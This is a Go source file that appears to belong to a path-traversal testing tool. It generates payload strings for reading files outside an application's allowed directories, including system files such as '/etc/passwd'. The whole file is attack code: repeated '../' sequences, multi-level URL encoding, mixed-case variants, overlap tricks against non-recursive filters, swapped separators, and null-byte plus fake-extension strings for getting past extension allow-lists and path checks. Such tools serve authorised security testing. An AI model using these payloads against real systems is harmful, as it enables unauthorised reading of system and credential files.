// Package generator implements the traversal payload generator (C2): a
// pure function from (detection method, OS, depth, file, flags) to a
// deduplicated, ordered sequence of traversal strings.
package generator

import (
	"strings"

	"github.com/nanragav/pathbreach/internal/encoding"
	"github.com/nanragav/pathbreach/internal/perrors"
)

// OSType selects which target-file lists participate in generation.
type OSType string

const (
	OSWindows OSType = "windows"
	OSUnix    OSType = "unix"
	OSGeneric OSType = "generic"
)

// DetectionMethod selects which encoding subsets and target-file lists
// participate in generation.
type DetectionMethod string

const (
	MethodSimple         DetectionMethod = "simple"
	MethodAbsolutePath   DetectionMethod = "absolute_path"
	MethodNonRecursive   DetectionMethod = "non_recursive"
	MethodURLEncoding    DetectionMethod = "url_encoding"
	MethodPathValidation DetectionMethod = "path_validation"
	MethodNullByte       DetectionMethod = "null_byte"
	MethodAny            DetectionMethod = "any"
)

// Per-family caps: compile-time constants bounding the combinatorial
// explosion of the null-byte and non-recursive families.
const (
	nonRecursiveBaseCap = 13
	nullEncodingCap     = 3
	fakeExtensionCap    = 3
)

var nonRecursiveRepeatLevels = []int{3, 4}

var simplePrefixes = []string{"../", "..\\", "./", ".\\"}

// Params are the inputs to Generate: target OS, maximum depth, detection
// method, optional target file, whether to include the extra file list, an
// optional fake extension, and an optional pinned bisection depth.
type Params struct {
	OS             OSType
	Depth          int
	Method         DetectionMethod
	TargetFile     string
	ExtraFiles     bool
	Extension      string
	BisectionDepth *int
}

// Generate produces the deduplicated, ordered traversal-string sequence for
// the given parameters. It performs no I/O and cannot time out.
func Generate(p Params) ([]string, error) {
	if err := validate(p); err != nil {
		return nil, err
	}

	out := &orderedSet{seen: make(map[string]struct{})}

	switch p.Method {
	case MethodSimple:
		appendSimple(out, p, simplePrefixes, false)
	case MethodURLEncoding:
		appendURLEncoding(out, p)
	case MethodNonRecursive:
		appendNonRecursive(out, p)
	case MethodAbsolutePath:
		appendAbsolutePath(out, p)
	case MethodPathValidation:
		appendPathValidation(out, p)
	case MethodNullByte:
		appendNullByte(out, p, false)
	case MethodAny:
		appendAny(out, p)
	default:
		return nil, perrors.Newf(perrors.CodeInvalidConfig, "unknown detection method %q", p.Method)
	}

	return out.items, nil
}

func validate(p Params) error {
	if p.Depth < 1 || p.Depth > 50 {
		return perrors.Newf(perrors.CodeInvalidConfig, "depth must be in [1,50], got %d", p.Depth)
	}
	if p.BisectionDepth != nil && (*p.BisectionDepth < 1 || *p.BisectionDepth > 50) {
		return perrors.Newf(perrors.CodeInvalidConfig, "bisection depth must be in [1,50], got %d", *p.BisectionDepth)
	}
	if len(targetFiles(p, false)) == 0 {
		return perrors.New(perrors.CodeInvalidConfig, "target file cannot be resolved to any bytes")
	}
	return nil
}

// orderedSet accumulates strings with set semantics, preserving the order
// of first occurrence — the generator's dedup invariant.
type orderedSet struct {
	items []string
	seen  map[string]struct{}
}

func (o *orderedSet) add(s string) {
	if s == "" {
		return
	}
	if _, ok := o.seen[s]; ok {
		return
	}
	o.seen[s] = struct{}{}
	o.items = append(o.items, s)
}

// depthRange returns the [min,max] repetition range: when BisectionDepth is
// set, only that exact depth is emitted; otherwise every depth in [1,depth].
func depthRange(p Params) (min, max int) {
	if p.BisectionDepth != nil {
		return *p.BisectionDepth, *p.BisectionDepth
	}
	return 1, p.Depth
}

// targetFiles resolves the target-file selection rules: an explicit
// TargetFile wins outright; otherwise the OS-matched short (or absolute)
// list is used, generic being the union, with EXTRA_FILES appended when
// requested.
func targetFiles(p Params, absolute bool) []string {
	if p.TargetFile != "" {
		return []string{p.TargetFile}
	}

	var files []string
	switch p.OS {
	case OSWindows:
		if absolute {
			files = append(files, encoding.AbsFilesWindows...)
		} else {
			files = append(files, encoding.FilesWindows...)
		}
	case OSUnix:
		if absolute {
			files = append(files, encoding.AbsFilesUnix...)
		} else {
			files = append(files, encoding.FilesUnix...)
		}
	default: // generic: union
		if absolute {
			files = append(files, encoding.AbsFilesWindows...)
			files = append(files, encoding.AbsFilesUnix...)
		} else {
			files = append(files, encoding.FilesWindows...)
			files = append(files, encoding.FilesUnix...)
		}
	}

	if p.ExtraFiles {
		files = append(files, encoding.ExtraFiles...)
	}
	return files
}

// normalizeTargetFile strips a leading separator so that prefix + file never
// doubles it ("../" + "/etc/passwd" must not become "..//etc/passwd").
func normalizeTargetFile(file string) string {
	return strings.TrimLeft(file, "/\\")
}

// adaptFileSeparators rewrites the separators inside target so that they
// match the encoding level of prefix.
func adaptFileSeparators(file, prefix string) string {
	lower := strings.ToLower(prefix)
	switch {
	case strings.Contains(lower, "%252f") || strings.Contains(lower, "%255c"):
		return replaceSeparators(file, "%252f", "%255c")
	case strings.Contains(lower, "%2f") || strings.Contains(lower, "%5c"):
		return replaceSeparators(file, "%2f", "%5c")
	case strings.Contains(prefix, "\\"):
		return strings.ReplaceAll(file, "/", "\\")
	case strings.Contains(prefix, "/"):
		return strings.ReplaceAll(file, "\\", "/")
	default:
		return file
	}
}

func replaceSeparators(file, slashRepl, backslashRepl string) string {
	file = strings.ReplaceAll(file, "/", slashRepl)
	file = strings.ReplaceAll(file, "\\", backslashRepl)
	return file
}

func withExtension(payload, extension string) string {
	if extension == "" {
		return payload
	}
	return payload + extension
}

// appendSimple emits the cross product of prefixes × depth-repetitions ×
// target_files, the shape of the "simple" detection method.
func appendSimple(out *orderedSet, p Params, prefixes []string, absolute bool) {
	min, max := depthRange(p)
	files := targetFiles(p, absolute)

	for _, prefix := range prefixes {
		for k := min; k <= max; k++ {
			traversal := strings.Repeat(prefix, k)
			for _, file := range files {
				target := normalizeTargetFile(file)
				target = adaptFileSeparators(target, traversal)
				out.add(withExtension(traversal+target, p.Extension))
			}
		}
	}
}

func isURLEncodedToken(s string) bool {
	return strings.Contains(s, "%")
}

func filterEncoded(tokens []string) []string {
	out := make([]string, 0, len(tokens))
	for _, t := range tokens {
		if isURLEncodedToken(t) {
			out = append(out, t)
		}
	}
	return out
}

// appendURLEncoding emits a curated DOTS × SLASHES subset restricted to
// URL-encoded variants, plus a mixed-case copy of each, covering single
// through quintuple encoding levels already present in the tables.
func appendURLEncoding(out *orderedSet, p Params) {
	dots := filterEncoded(encoding.DOTS)
	slashes := filterEncoded(encoding.SLASHES)
	min, max := depthRange(p)
	files := targetFiles(p, false)

	var basePatterns []string
	for _, d := range dots {
		for _, s := range slashes {
			pattern := d + s
			basePatterns = append(basePatterns, pattern)
			if upper := strings.ToUpper(pattern); upper != pattern {
				basePatterns = append(basePatterns, upper)
			}
		}
	}

	for _, pattern := range basePatterns {
		for k := min; k <= max; k++ {
			traversal := strings.Repeat(pattern, k)
			for _, file := range files {
				target := normalizeTargetFile(file)
				target = adaptFileSeparators(target, traversal)
				out.add(withExtension(traversal+target, p.Extension))
			}
		}
	}
}

// appendNonRecursive repeats the dedicated bypass table at 3 and 4 levels,
// plus the "p p p[2:]" overlap trick, capped per family to bound explosion.
func appendNonRecursive(out *orderedSet, p Params) {
	base := encoding.NonRecursiveBypassPatterns
	if len(base) > nonRecursiveBaseCap {
		base = base[:nonRecursiveBaseCap]
	}
	files := targetFiles(p, false)

	for _, pattern := range base {
		var traversals []string
		for _, level := range nonRecursiveRepeatLevels {
			traversals = append(traversals, strings.Repeat(pattern, level))
		}
		if len(pattern) > 2 {
			traversals = append(traversals, pattern+pattern+pattern[2:])
		}

		for _, traversal := range traversals {
			for _, file := range files {
				target := normalizeTargetFile(file)
				target = adaptFileSeparators(target, traversal)
				out.add(withExtension(traversal+target, p.Extension))
			}
		}
	}
}

func percentEncodeSeparators(file string, upper bool) string {
	slash, backslash := "%2f", "%5c"
	if upper {
		slash, backslash = "%2F", "%5C"
	}
	file = strings.ReplaceAll(file, "/", slash)
	file = strings.ReplaceAll(file, "\\", backslash)
	return file
}

func swapSeparators(file string) string {
	const sentinel = "\x00__SEP__\x00"
	file = strings.ReplaceAll(file, "/", sentinel)
	file = strings.ReplaceAll(file, "\\", "/")
	file = strings.ReplaceAll(file, sentinel, "\\")
	return file
}

// appendAbsolutePath emits each absolute file unchanged, URL-encoded (both
// cases), with separators swapped, and the null-byte × fake-extension
// variants for extension-allow-list bypass.
func appendAbsolutePath(out *orderedSet, p Params) {
	files := targetFiles(p, true)
	nullEncodings := encoding.NullEncodings
	if len(nullEncodings) > nullEncodingCap {
		nullEncodings = nullEncodings[:nullEncodingCap]
	}
	fakeExtensions := encoding.FakeExtensions
	if len(fakeExtensions) > fakeExtensionCap {
		fakeExtensions = fakeExtensions[:fakeExtensionCap]
	}

	for _, file := range files {
		out.add(withExtension(file, p.Extension))
		out.add(withExtension(percentEncodeSeparators(file, false), p.Extension))
		out.add(withExtension(percentEncodeSeparators(file, true), p.Extension))
		out.add(withExtension(swapSeparators(file), p.Extension))

		for _, null := range nullEncodings {
			for _, ext := range fakeExtensions {
				out.add(file + null + ext)
			}
		}
	}
}

// appendPathValidation emits prefix + traversal-sequence + target for every
// legitimate prefix, plus URL-encoded and null-byte variants of the whole
// string.
func appendPathValidation(out *orderedSet, p Params) {
	var prefixes []string
	switch p.OS {
	case OSWindows:
		prefixes = encoding.PrefixesWindows
	case OSUnix:
		prefixes = encoding.PrefixesUnix
	default:
		prefixes = append(append([]string{}, encoding.PrefixesWindows...), encoding.PrefixesUnix...)
	}

	min, max := depthRange(p)
	files := targetFiles(p, false)
	nullEncodings := encoding.NullEncodings
	if len(nullEncodings) > nullEncodingCap {
		nullEncodings = nullEncodings[:nullEncodingCap]
	}

	for _, prefix := range prefixes {
		for _, seqPrefix := range simplePrefixes {
			for k := min; k <= max; k++ {
				sequence := strings.Repeat(seqPrefix, k)
				for _, file := range files {
					target := normalizeTargetFile(file)
					target = adaptFileSeparators(target, sequence)
					base := prefix + sequence + target
					payload := withExtension(base, p.Extension)
					out.add(payload)
					out.add(percentEncodeSeparators(payload, false))
					for _, null := range nullEncodings {
						out.add(payload + null)
					}
				}
			}
		}
	}
}

// appendNullByte emits traversal + target + null-encoding + fake-extension
// for every basic traversal × target × null-encoding × fake-extension,
// repeating the same sweep for absolute-path targets.
func appendNullByte(out *orderedSet, p Params, _ bool) {
	min, max := depthRange(p)
	nullEncodings := encoding.NullEncodings
	if len(nullEncodings) > nullEncodingCap {
		nullEncodings = nullEncodings[:nullEncodingCap]
	}
	fakeExtensions := encoding.FakeExtensions
	if len(fakeExtensions) > fakeExtensionCap {
		fakeExtensions = fakeExtensions[:fakeExtensionCap]
	}

	emit := func(files []string) {
		for _, prefix := range simplePrefixes {
			for k := min; k <= max; k++ {
				traversal := strings.Repeat(prefix, k)
				for _, file := range files {
					target := normalizeTargetFile(file)
					target = adaptFileSeparators(target, traversal)
					base := traversal + target
					for _, null := range nullEncodings {
						for _, ext := range fakeExtensions {
							out.add(base + null + ext)
						}
					}
				}
			}
		}
	}

	emit(targetFiles(p, false))
	emit(targetFiles(p, true))
}

// appendAny runs the full pipeline: DOTS × SLASHES cross product, special
// patterns, non-recursive bypasses, then (outside bisection mode) the
// null-byte, absolute-path, and path-validation families.
func appendAny(out *orderedSet, p Params) {
	min, max := depthRange(p)
	files := targetFiles(p, false)

	var basePatterns []string
	for _, d := range encoding.DOTS {
		for _, s := range encoding.SLASHES {
			basePatterns = append(basePatterns, d+s)
		}
	}
	for _, pattern := range basePatterns {
		for k := min; k <= max; k++ {
			traversal := strings.Repeat(pattern, k)
			for _, file := range files {
				target := normalizeTargetFile(file)
				target = adaptFileSeparators(target, traversal)
				out.add(withExtension(traversal+target, p.Extension))
			}
		}
	}

	for _, pattern := range encoding.SpecialPatterns {
		for k := min; k <= max; k++ {
			traversal := strings.Repeat(pattern, k)
			for _, file := range files {
				target := normalizeTargetFile(file)
				target = adaptFileSeparators(target, traversal)
				out.add(withExtension(traversal+target, p.Extension))
			}
		}
	}

	appendNonRecursive(out, p)

	if p.BisectionDepth == nil {
		appendNullByte(out, p, false)
		appendAbsolutePath(out, p)
		appendPathValidation(out, p)
	}
}
